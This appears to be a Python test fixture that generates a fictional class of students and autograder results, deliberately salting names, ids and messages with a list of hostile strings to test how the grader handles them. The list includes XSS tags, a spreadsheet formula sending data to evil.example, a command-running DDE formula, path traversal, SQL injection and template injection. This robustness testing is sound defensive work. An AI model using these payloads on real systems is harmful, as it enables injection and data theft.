"""A class that never was: realistic results, and students who try everything."""

from __future__ import annotations

import hashlib
import random
from collections.abc import Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from grader.classroom.intake.class_folder import ClassFolder, HandedIn, Student
from grader.diagnosis.kinds import Kind, hint
from grader.program.course import built_in_course
from grader.verdict import pack_map
from tests.helpers.lines import journal

HOSTILE_TEXTS = (
    "<script>document.title = 'PWNED'</script>",
    "</script><img src=x onerror=\"document.title='PWNED'\">",
    '=HYPERLINK("http://evil.example/?"&A1, "grades")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\x1b[31mred\x1b[0m \x07",
    "\u202elarim\u202c olleh",
    "Ä" * 200,
    "👩‍🔬 Zoë 💥",
    "Amélie Nguyễn",
    "tab\there\r\nand there",
    "{{ 7 * 7 }}{% raw %}",
    "a\x00b]]>&amp;<!--",
    "half \\ud83d of a pair \ud83d",
    "../../../etc/passwd",
    "'; DROP TABLE students; --",
)

_FIRST = "Ada Bo Chloé Dmitri Elif Femi Grace Hana Ivo Jun Kofi Lena Mei Noor Omar Priya Quentin "
_FIRST += "Rosa Sven Tariq Uma Viggo Wen Ximena Yara Zoë"
_LAST = "Abebe Berg Castillo Dubois Eriksen Fischer García Haddad Ito Jansen Kowalski Lindqvist "
_LAST += "Mbeki Nakamura Okafor Petrov Quispe Rossi Silva Tanaka Usman Varga Wójcik Xu Yilmaz Zhang"

_SAID = {
    Kind.MISSING_BRANCH: "`{d}` has the contribution through one of `{t}`'s readers only; the"
    " other is missing.",
    Kind.OVERWRITTEN_BRANCH: "`{d}` is assigned twice: the second assignment overwrites the first.",
    Kind.MISSING_SUM: "`{t}` was copied along the first axis, but `{d}` is not summed over it.",
    Kind.LOST_KEEPDIM: "The values of `{d}` are right; the axis that was summed is gone.",
    Kind.SIGN: "All of `{d}` has the wrong sign.",
    Kind.BESSEL: "`{d}` divides by n where the forward pass divides by n - 1.",
    Kind.MISSING_FACTOR: "`{d}` lacks a factor: the tensor that `{t}` is multiplied with.",
    Kind.TRANSPOSED: "`{d}` is transposed: its shape is that of `{t}.T`.",
    Kind.POWER_RULE: "In `{d}` the exponent was not lowered.",
    Kind.CONSTANT_FACTOR: "`{d}` is 32 times as large as it should be.",
}

_CODE = (
    "{d} = {u} * {t}",
    "{d} = ({u} * {t}).sum(0)",
    "{d} = {t}.T @ {u}",
    "{d} = {u} * (1 - {t} ** 2)",
    "{d} = {u}.sum(1, keepdim=True) / n",
)

_MAP = pack_map(["4" * 64] * 10 + ["8" * 64, "5" * 64] + ["4" * 64] * 20)
"""Where a value is wrong: in two rows of 32."""

Results = list[dict[str, Any]]


@dataclass(frozen=True, slots=True)
class MadeClass:
    """A class list with its results, the lines in the order of the files."""

    folder: ClassFolder
    lines: Results

    def write(self, path: Path, shuffled: int | None = None) -> Path:
        """Write the results, in another order for each number."""
        lines = list(self.lines)
        if shuffled is not None:
            random.Random(shuffled).shuffle(lines)
        return journal(path, lines)


def make_class(
    students: int, seed: int = 1, which: Sequence[str] | None = None, hostile: bool = True
) -> MadeClass:
    """A class of so many students; the same numbers give the same class."""
    rng = random.Random(seed)
    which = built_in_course().notebooks if which is None else which
    difficulty = {
        (notebook, gradient): rng.betavariate(1.5, 6)
        for notebook in which
        for _, gradient in built_in_course().gradients(notebook)
    }
    people, files, lines = [], [], []
    for number in range(students):
        student = _student(number, rng, hostile)
        people.append(student)
        if rng.random() < 0.03:
            continue  # nothing came
        skill = rng.betavariate(4, 1.6)
        for notebook in which:
            if rng.random() < 0.06:
                continue
            for attempt in range(1 + (rng.random() < 0.08)):
                handed = _handed_in(student, notebook, attempt, rng)
                files.append(handed)
                if rng.random() < 0.004:
                    continue  # the run was stopped
                lines.append(_line(handed, notebook, skill, difficulty, rng, hostile))
    people.sort(key=lambda student: student.id)
    files.sort(key=lambda file: (file.student, file.id))
    return MadeClass(ClassFolder(Path("class"), "folders", tuple(people), tuple(files)), lines)


def _student(number: int, rng: random.Random, hostile: bool) -> Student:
    first, last = rng.choice(_FIRST.split()), rng.choice(_LAST.split())
    id_ = f"{last[:3]}{first[:2]}{number:04d}".lower().encode("ascii", "replace").decode()
    id_ = id_.replace("?", "x")
    name = f"{last}, {first}"
    if hostile and number % 13 == 5:
        text = HOSTILE_TEXTS[number // 13 % len(HOSTILE_TEXTS)]
        name = text
        if number % 2:
            id_ = f"{text}{number}"
    # surrogates are escaped by whoever reads the folder
    id_ = id_.encode("utf-8", "backslashreplace").decode()
    return Student(id_, name, f"{first}.{last}{number}@uni.example".lower())


def _handed_in(student: Student, notebook: str, attempt: int, rng: random.Random) -> HandedIn:
    moment = datetime(2026, 11, 2, 9, tzinfo=UTC) + timedelta(minutes=rng.randrange(15_000))
    name = f"{student.id}/{notebook}{f'-{attempt}' if attempt else ''}.ipynb"
    late = rng.random() < 0.05
    return HandedIn(name, student.id, name, None, late, moment.isoformat(), attempt)


def _line(
    handed: HandedIn,
    notebook: str,
    skill: float,
    difficulty: dict[tuple[str, str], float],
    rng: random.Random,
    hostile: bool,
) -> dict[str, Any]:
    head = {
        "id": handed.id,
        "student": handed.student,
        "file": handed.id,
        "sha256": hashlib.sha256(handed.id.encode()).hexdigest(),
        "late": handed.late,
        "submitted": handed.submitted,
        "attempt": handed.attempt,
    }
    run = {
        "seconds": round(rng.uniform(0.02, 0.09), 4),
        "worker": f"host-{rng.randrange(4)}",
        "sandbox": "bwrap",
        "seed": 424242424242,
        "versions": {"grader": "0.1.0", "python": "3.11.7", "torch": "2.13.0+cpu"},
    }
    text = rng.choice(HOSTILE_TEXTS)
    if rng.random() < 0.012:
        name = text if hostile and rng.random() < 0.3 else "line 1 column 2"
        error = f"This is not a notebook: it is not JSON ({name})."
        return {**head, "format": 1, "error": error, "flags": [], "run": run}
    stopped = rng.random() < 0.12  # gave up somewhere
    names = [gradient for _, gradient in built_in_course().gradients(notebook)]
    end = rng.randrange(len(names)) if stopped else len(names)
    flags = _flags(rng, text if hostile else "x = 1")
    gradients, wrong = [], False
    for index, name in enumerate(names):
        outcome = "pass"
        if index >= end:
            outcome = "todo"
        elif rng.random() > skill ** (0.15 + 2.5 * difficulty[notebook, name]):
            outcome = rng.choices(["fail", "error", "refused"], [20, 3, 0.4])[0]
            wrong = True
        elif wrong and rng.random() < 0.5:
            outcome = "carried"
        upstream = names[index - 1] if index else "dloss"
        hostile_here = hostile and rng.random() < 0.02
        gradients.append(_gradient(name, upstream, outcome, index, rng, text * hostile_here))
    score = sum(item["points"] for item in gradients)
    return {
        **head,
        "format": 1,
        "notebook": notebook,
        "score": score,
        "max_score": len(names),
        "gradients": gradients,
        "flags": flags,
        "run": run,
    }


def _flags(rng: random.Random, text: str) -> Results:
    cell = {"line": 3, "cell": "ex1-softmax"}
    found = []
    if rng.random() < 0.03:
        message = "The answer cell ex1-softmax is there 2 times; graded: copy 2."
        found.append({"kind": "duplicate-answer", **cell, "message": message})
    if rng.random() < 0.02:
        message = f"`{text}`: no gradient needs Python's inner workings."
        found.append({"kind": "dunder", **cell, "message": message})
    if rng.random() < 0.01:
        message = "The answer tried to open /proc/self/environ."
        found.append({"kind": "forbidden-file", "line": None, "message": message, "cell": None})
    return found


def _gradient(
    name: str, upstream: str, outcome: str, index: int, rng: random.Random, text: str
) -> dict[str, Any]:
    tensor = name.removeprefix("d")
    written = outcome != "todo"
    compared = outcome in ("pass", "carried", "fail")
    maxdiff = {"pass": rng.choice([0.0, 4.66e-10, 1.3e-9]), "fail": rng.uniform(1e-3, 9.0)}
    shape = [32, 64] if compared else None
    diagnosis: Results = []
    note, reasons = "", list[Any]()
    if outcome == "fail":
        if rng.random() < 0.8:
            for kind in rng.sample([*_SAID], 1 + (rng.random() < 0.2)):
                message = text or _SAID[kind].format(d=name, t=tensor)
                diagnosis.append({"kind": str(kind), "message": message, "hint": hint(kind, name)})
        else:
            note = f"This is not the gradient of the loss with respect to {tensor}."
            reasons = [("not-the-gradient", {"tensor": tensor})]
    elif outcome == "carried":
        note = f"This line is right, but an incoming gradient is not: see {upstream}."
    elif outcome == "error":
        note = text or f"NameError: name '{upstream}_' is not defined"
    elif outcome == "refused":
        note = f"`{tensor}.grad` is autograd's answer, and here it is yours that counts."
    elif rng.random() < 0.02:
        note = f"Zeros are right here, because {name} is zero for every input."
    code = rng.choice(_CODE).format(d=name, u=upstream, t=tensor)
    # Equal lines have equal values.
    digest = hashlib.sha256(code.encode()).hexdigest()[:12] if note and outcome == "fail" else ""
    code += f"  # {text}" if text else ""
    right = {"pass": ("right", "right"), "carried": ("wrong", "right"), "fail": ("wrong", "wrong")}
    checks = right.get(outcome, ("not run", "not run"))
    return {
        "name": name,
        "verdict": outcome,
        "exact": maxdiff.get(outcome, 1.0) == 0.0 if compared else None,
        "approximate": outcome == "pass" if compared else None,
        "maxdiff": maxdiff.get(outcome, 0.0064) if compared else None,
        "shape": shape,
        "expected_shape": [32, 64],
        "points": int(outcome in ("pass", "carried")),
        "max_points": 1,
        "line": index + 2 if written else None,
        "diagnosis": diagnosis,
        "note": note,
        **({"reasons": reasons} if reasons else {}),
        "cell": "ex1-softmax" if written else None,
        "global_check": checks[0],
        "local_check": checks[1],
        "code": code if written else "",
        "piece": None,
        **({"wrong": {"digest": f"value:{digest}", "map": _MAP}} if digest else {}),
    }
